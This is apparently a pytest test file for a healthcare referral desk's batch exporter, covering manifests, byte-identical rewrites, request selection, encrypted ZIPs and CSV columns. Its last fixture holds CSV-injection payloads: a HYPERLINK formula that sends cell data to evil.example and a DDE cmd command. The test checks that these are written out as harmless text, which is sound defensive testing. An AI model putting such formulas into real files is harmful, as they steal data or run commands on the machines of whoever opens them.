"""A batch: its files and manifest, written again byte for byte, what is selected, and encryption."""

import csv
import hashlib
import io
import json
import zipfile
from datetime import date

import pytest
import pyzipper

from app.domain.cases import Status
from app.errors import InputProblem
from app.exports.batch import BatchHeader, Practice
from app.exports.manifest import manifest_document
from app.exports.batch import EXPORT_FORMAT_VERSION
from app.exports.submissions_csv import COLUMNS, FORMAT_2_COLUMNS, FORMAT_3_COLUMNS, columns
from app.services.cases import Outcome
from tests.factories import ORTHO_HAKOBYAN, make_request
from tests.support.desks import Clock
from tests.support.exports import exporting_desk, submit_three

PLAN = "caloptima-medi-cal"


@pytest.fixture
def desk(db_target):
    cases, exports = exporting_desk(db_target)
    ids = submit_three(cases)
    return cases, exports, ids


def _tree(folder):
    return {str(path.relative_to(folder)): path.read_bytes() for path in sorted(folder.rglob("*"))
            if path.is_file()}


def _zip_contents(path, passphrase=None):
    with pyzipper.AESZipFile(path) as archive:
        if passphrase:
            archive.setpassword(passphrase.encode())
        return {name: archive.read(name) for name in archive.namelist()}


def test_folder_layout_and_manifest_checksums(desk, tmp_path):
    _, exports, (first, second, _) = desk
    result = exports.export(PLAN, tmp_path)
    assert result.path == tmp_path / "sodesk-caloptima-medi-cal-batch-000001"
    files = _tree(result.path)
    assert sorted(files) == ["fhir/1-bundle.json", "fhir/2-bundle.json", "letters/1-referral.pdf",
                             "letters/2-referral.pdf", "manifest.json", "requests/1.json", "requests/2.json",
                             "submissions.csv"]
    manifest = json.loads(files.pop("manifest.json"))
    assert {entry["path"]: entry["sha256"] for entry in manifest["files"]} == {
        name: hashlib.sha256(data).hexdigest() for name, data in files.items()}
    assert all(entry["bytes"] == len(files[entry["path"]]) for entry in manifest["files"])
    assert manifest["batch_id"] == 1 and manifest["count"] == 2
    assert manifest["plan"] == {"id": PLAN, "name": "CalOptima Health Medi-Cal"}
    assert manifest["practice"]["name"] == "Valley Family Practice"
    assert manifest["created_at"] == "2025-03-04T09:30:15-08:00"
    assert result.manifest_sha256 == hashlib.sha256((result.path / "manifest.json").read_bytes()).hexdigest()


def test_submissions_csv_has_the_documented_columns_and_no_more(desk, tmp_path):
    _, exports, _ = desk
    result = exports.export(PLAN, tmp_path)
    rows = list(csv.DictReader(io.StringIO((result.path / "submissions.csv").read_text(encoding="utf-8"),
                                           newline="")))
    assert tuple(rows[0]) == COLUMNS + FORMAT_2_COLUMNS + FORMAT_3_COLUMNS
    assert [(r["line"], r["request_id"], r["urgent"]) for r in rows] == [("1", "1", "no"), ("2", "2", "yes")]
    assert rows[0]["professional_npi"] == ORTHO_HAKOBYAN and rows[0]["professional_taxonomy"] == "207XS0114X"
    assert rows[1]["member_last_name"] == "Nguyễn" and rows[1]["diagnoses"] == "M17.11;M25.511"
    # Minimum necessary: no address, phone or language of the member anywhere in the CSV.
    text = (result.path / "submissions.csv").read_text(encoding="utf-8")
    assert "100 Example St" not in text and "714-555-0101" not in text and "Spanish" not in text
    documented = (__import__("pathlib").Path(__file__).parents[2] / "docs" / "exports.md").read_text()
    assert all(f"`{column}`" in documented for column in COLUMNS + FORMAT_2_COLUMNS + FORMAT_3_COLUMNS)


def test_submissions_csv_carries_the_practice_and_service_an_authorization_template_asks_for(db_target, tmp_path):
    cases, exports = exporting_desk(db_target)
    exports.settings = exports.settings.model_copy(update={"practice_npi": "1234567893",
                                                           "practice_tin": "12-3456789", "place_of_service": "10"})
    submit_three(cases)
    rows = list(csv.DictReader(io.StringIO((exports.export(PLAN, tmp_path).path / "submissions.csv").read_text(
        encoding="utf-8"), newline="")))
    assert {(r["practice_npi"], r["practice_tin"], r["practice_phone"], r["service_code"], r["place_of_service"])
            for r in rows} == {("1234567893", "12-3456789", "209-555-0199", "99242", "10")}


def test_a_batch_of_format_1_keeps_its_columns_and_its_manifest_keys():
    """Sent before the sender id: written again with the columns and practice keys it was sent with."""
    old = BatchHeader(batch_id=3, plan=PLAN, plan_name="CalOptima Health Medi-Cal", created_at="2025-03-04T09:30:15-08:00",
                      who="clerk", with_pdfs=False, practice=Practice.model_validate({"name": "Valley Family Practice",
                                                                                      "address": None, "phone": None,
                                                                                      "fax": None}))
    assert columns(old) == COLUMNS
    manifest = manifest_document(old, 0, {})
    assert manifest["export_format_version"] == 1
    assert manifest["practice"] == {"name": "Valley Family Practice", "address": None, "phone": None, "fax": None}
    new = old.model_copy(update={"practice": old.practice.model_copy(update={"sender_id": "a-sender"})})
    assert manifest_document(new, 0, {})["export_format_version"] == 2 and columns(new)[-1] == "member_sex"


def test_request_json_carries_the_full_request_determination_and_schema_version(desk, tmp_path):
    _, exports, _ = desk
    result = exports.export(PLAN, tmp_path)
    document = json.loads((result.path / "requests" / "1.json").read_text(encoding="utf-8"))
    assert document["schema_version"] == 1 and document["export_format_version"] == EXPORT_FORMAT_VERSION
    assert document["request"]["member"]["address"]["line1"] == "100 Example St"
    assert document["request"]["care_in_question"]["from"] == "specialist"
    assert document["determination"]["authorization_required"] is True
    assert document["status"] == "pending_authorization" and document["professional"]["npi"] == ORTHO_HAKOBYAN


@pytest.mark.parametrize("as_zip", [False, True], ids=["folder", "zip"])
def test_a_batch_written_again_from_the_database_is_byte_identical(desk, tmp_path, as_zip):
    cases, exports, (first, _, _) = desk
    sent = exports.export(PLAN, tmp_path / ("sent.zip" if as_zip else "sent"), as_zip=as_zip)
    # The request moves on, the clock moves on, the directory changes: the batch as sent does not.
    cases.decide(first, Outcome.approved, authorization_number="CO-9")
    exports.clock.now = exports.clock.now.replace(year=2026)
    exports.directory.upsert_many([exports.directory.get(ORTHO_HAKOBYAN).model_copy(update={"last_name": "X"})])
    again = exports.rewrite(sent.batch_id, tmp_path / ("again.zip" if as_zip else "again"), as_zip=as_zip)
    if as_zip:
        assert again.path.read_bytes() == sent.path.read_bytes()
        assert zipfile.ZipFile(again.path).testzip() is None
    else:
        assert _tree(again.path) == _tree(sent.path)
    assert again.manifest_sha256 == sent.manifest_sha256


def test_zip_holds_the_same_files_as_the_folder(desk, tmp_path):
    _, exports, _ = desk
    zipped = exports.export(PLAN, tmp_path, as_zip=True)
    assert zipped.path.name == "sodesk-caloptima-medi-cal-batch-000001.zip"
    folder = exports.rewrite(zipped.batch_id, tmp_path / "folder")
    assert _zip_contents(zipped.path) == _tree(folder.path)


def test_a_zip_with_letters_stores_its_bundles_and_pdfs_and_deflates_the_rest(desk, tmp_path):
    """Format 4 bundles carry their letter (base64 of a compressed PDF): stored, as the PDFs are."""
    _, exports, _ = desk
    zipped = exports.export(PLAN, tmp_path, as_zip=True)
    with zipfile.ZipFile(zipped.path) as archive:
        kinds = {info.filename: info.compress_type for info in archive.infolist()}
        assert archive.testzip() is None
    assert any(name.startswith("fhir/") for name in kinds) and any(name.endswith(".pdf") for name in kinds)
    for name, kind in kinds.items():
        expected = zipfile.ZIP_STORED if name.startswith(("fhir/", "letters/")) else zipfile.ZIP_DEFLATED
        assert kind == expected, name


def test_rewrite_refuses_when_the_letters_would_differ(desk, tmp_path):
    _, exports, _ = desk
    sent = exports.export(PLAN, tmp_path / "sent")
    exports.pdf_for = lambda case: b"%PDF-1.4 another renderer\n"
    with pytest.raises(InputProblem, match="does not match the one sent"):
        exports.rewrite(sent.batch_id, tmp_path / "again")
    assert not (tmp_path / "again").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    exports.pdf_for = None
    with pytest.raises(InputProblem, match="only be written again with them"):
        exports.rewrite(sent.batch_id, tmp_path / "again")


def test_default_selection_is_submitted_needing_authorization_not_yet_sent(desk, tmp_path):
    cases, exports, (first, second, hpsj) = desk
    assert [c.id for c in exports.select(PLAN)] == [first, second]
    assert exports.select("hpsj-medi-cal") == []  # needs no authorization: ready to schedule
    cases.save_draft({"plan": PLAN})  # drafts never go out
    withdrawn = cases.submit(make_request(member={"member_id": "TST000009"})).case.id
    cases.withdraw(withdrawn, "member moved")
    decided = cases.submit(make_request(member={"member_id": "TST000010"})).case.id
    cases.decide(decided, Outcome.denied, reason="criteria not met")
    assert [c.id for c in exports.select(PLAN)] == [first, second]
    exports.export(PLAN, tmp_path)
    assert exports.select(PLAN) == []
    with pytest.raises(InputProblem, match="nothing to export for caloptima-medi-cal"):
        exports.export(PLAN, tmp_path)
    late = cases.submit(make_request(member={"member_id": "TST000011"})).case.id
    assert [c.id for c in exports.select(PLAN)] == [late]
    assert [c.id for c in exports.select(PLAN, again=True)] == [first, second, late]


def test_again_sends_a_request_twice_and_both_sendings_are_recorded(desk, tmp_path):
    _, exports, (first, second, _) = desk
    one = exports.export(PLAN, tmp_path)
    exports.clock.now = exports.clock.now.replace(day=5)
    two = exports.export(PLAN, tmp_path, again=True)
    assert (one.batch_id, two.batch_id) == (1, 2) and two.request_ids == [first, second]
    sent = exports.sent(first)
    assert [(s.batch_id, s.line, s.created_at.isoformat()) for s in sent] == [
        (1, 1, "2025-03-04T09:30:15-08:00"), (2, 1, "2025-03-05T09:30:15-08:00")]
    assert [b.id for b in exports.batches(PLAN)] == [2, 1]


def test_explicit_ids(desk, tmp_path):
    cases, exports, (first, second, hpsj) = desk
    assert [c.id for c in exports.select(PLAN, ids=[second])] == [second]
    result = exports.export(PLAN, tmp_path, ids=[second])
    assert result.request_ids == [second]
    with pytest.raises(InputProblem) as refused:
        exports.select(PLAN, ids=[second, hpsj, 99])
    assert refused.value.problems == [
        f"--ids: request #{second} was already sent to {PLAN} in batch 1; add --again to send it again",
        f"--ids: request #{hpsj} is for hpsj-medi-cal, not {PLAN}",
        "--ids: there is no request #99",
    ]
    assert [c.id for c in exports.select(PLAN, ids=[second], again=True)] == [second]


def test_unknown_plan_and_existing_target_are_refused(desk, tmp_path):
    _, exports, _ = desk
    with pytest.raises(InputProblem, match="no plan 'nope'"):
        exports.export("nope", tmp_path)
    (tmp_path / "taken").mkdir()
    (tmp_path / "taken" / "sodesk-caloptima-medi-cal-batch-000001").mkdir()
    with pytest.raises(InputProblem, match="already exists"):
        exports.export(PLAN, tmp_path / "taken")
    assert exports.batches() == []


def test_without_letters_no_pdfs_and_the_manifest_says_so(tmp_path):
    cases, exports = exporting_desk(tmp_path / "desk.sqlite3", pdf_for=None)
    submit_three(cases)
    result = exports.export(PLAN, tmp_path / "out")
    assert not (result.path / "letters").exists()
    assert json.loads((result.path / "manifest.json").read_text())["letters_included"] is False
    assert exports.rewrite(result.batch_id, tmp_path / "again").manifest_sha256 == result.manifest_sha256


def test_a_large_batch_makes_its_files_in_worker_processes_byte_for_byte_as_in_process(tmp_path, monkeypatch):
    """From PARALLEL_FILES requests (without letters) the JSON and FHIR files are made in worker processes: the
    batch is the same, byte for byte, as the one made in this process."""
    import app.exports.package as package

    cases, exports = exporting_desk(tmp_path / "desk.sqlite3", pdf_for=None)
    submit_three(cases)
    here = exports.export(PLAN, tmp_path / "here")
    workers = []
    from concurrent import futures

    class Counting(futures.ProcessPoolExecutor):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            workers.append(self)

    monkeypatch.setattr(futures, "ProcessPoolExecutor", Counting)
    monkeypatch.setattr(package, "PARALLEL_FILES", 1)
    monkeypatch.setattr(package.os, "cpu_count", lambda: 2)
    there = exports.rewrite(here.batch_id, tmp_path / "there")
    assert workers, "the files were made in worker processes"
    assert there.manifest_sha256 == here.manifest_sha256 and _tree(there.path) == _tree(here.path)


PASSPHRASE = "correct horse battery staple"


def test_encrypted_zip_is_unreadable_without_the_passphrase_and_readable_with_it(desk, tmp_path):
    _, exports, _ = desk
    result = exports.export(PLAN, tmp_path / "sent.zip", as_zip=True, passphrase=PASSPHRASE)
    raw = result.path.read_bytes()
    assert b"Testcase" not in raw and b"TST000001" not in raw and b"caloptima" not in raw.lower()[200:]
    with zipfile.ZipFile(result.path) as plain:  # a plain ZIP reader: password asked, AES not understood
        with pytest.raises(RuntimeError, match="password required"):
            plain.read("submissions.csv")
        with pytest.raises(NotImplementedError):
            plain.read("submissions.csv", pwd=PASSPHRASE.encode())
    with pyzipper.AESZipFile(result.path) as archive:
        assert archive.getinfo("submissions.csv").flag_bits & 0x1  # encrypted
        with pytest.raises(RuntimeError):  # no password
            archive.read("submissions.csv")
        archive.setpassword(b"wrong passphrase")
        with pytest.raises(RuntimeError, match="[Bb]ad password"):
            archive.read("submissions.csv")
    contents = _zip_contents(result.path, PASSPHRASE)
    assert b"Testcase" in contents["submissions.csv"]
    # Written again: a new salt, so new ciphertext, but the very same files inside.
    again = exports.rewrite(result.batch_id, tmp_path / "again.zip", as_zip=True, passphrase=PASSPHRASE)
    assert _zip_contents(again.path, PASSPHRASE) == contents
    plain = exports.rewrite(result.batch_id, tmp_path / "plain", as_zip=False)
    assert _tree(plain.path) == contents


def test_encryption_needs_a_zip_and_a_passphrase(desk, tmp_path):
    _, exports, _ = desk
    with pytest.raises(InputProblem, match="needs a ZIP"):
        exports.export(PLAN, tmp_path / "x", passphrase=PASSPHRASE)
    with pytest.raises(InputProblem, match="empty"):
        exports.export(PLAN, tmp_path / "x.zip", as_zip=True, passphrase="")
    assert exports.batches() == [] and list(tmp_path.glob("x*")) == []


def test_progress_is_reported_per_request(desk, tmp_path):
    _, exports, _ = desk
    seen = []
    exports.export(PLAN, tmp_path, progress=lambda done, total: seen.append((done, total)))
    assert seen == [(1, 2), (2, 2)]


def test_migration_adds_the_tables(tmp_path):
    from app.storage.db import open_db

    db = open_db(tmp_path / "fresh.sqlite3")
    assert {"export_batches", "export_items"} <= set(db.table_names())
    assert "m005_exports" in {row[0] for row in db.execute("SELECT name FROM _sqlite_migrations")}


def test_decision_date_fields_survive_in_snapshot(desk, tmp_path):
    """The snapshot stores the case as sent, including an authorization given before an --again resend."""
    cases, exports, (first, _, _) = desk
    cases.decide(first, Outcome.pended, reason="need imaging")
    result = exports.export(PLAN, tmp_path, ids=[first])
    case = exports.batch(result.batch_id).items[0].case
    assert case.status == Status.pended and case.history == []
    assert date(2025, 3, 4) == exports.batch(result.batch_id).batch.created_at.date()
    assert isinstance(exports.clock, Clock)


HOSTILE = {  # what a requester might type, and what a spreadsheet would run (OWASP: CSV injection)
    "procedure": '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
    "requester": {"type": "authorized_representative", "name": "@SUM(1+1)*cmd|' /C calc'!A0"},
    "member": {"member_id": "TST000009", "last_name": "-2+3", "first_name": "+Rosa"},
}


def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_the_json_keeps_what_was_typed(db_target, tmp_path):
    cases, exports = exporting_desk(db_target)
    case = cases.submit(make_request(**HOSTILE)).case
    result = exports.export(PLAN, tmp_path, ids=[case.id])
    rows = list(csv.DictReader(io.StringIO((result.path / "submissions.csv").read_text(encoding="utf-8"),
                                           newline="")))
    row = rows[0]
    assert row["procedure"] == "'" + HOSTILE["procedure"]
    assert row["requester_name"] == "'" + HOSTILE["requester"]["name"]
    assert (row["member_last_name"], row["member_first_name"]) == ("'-2+3", "'+Rosa")
    assert row["request_id"] == str(case.id) and row["member_date_of_birth"][0].isdigit()  # plain values as they were
    document = json.loads((result.path / "requests" / f"{case.id}.json").read_text(encoding="utf-8"))
    assert document["request"]["procedure"] == HOSTILE["procedure"]
    assert document["request"]["member"]["last_name"] == "-2+3"
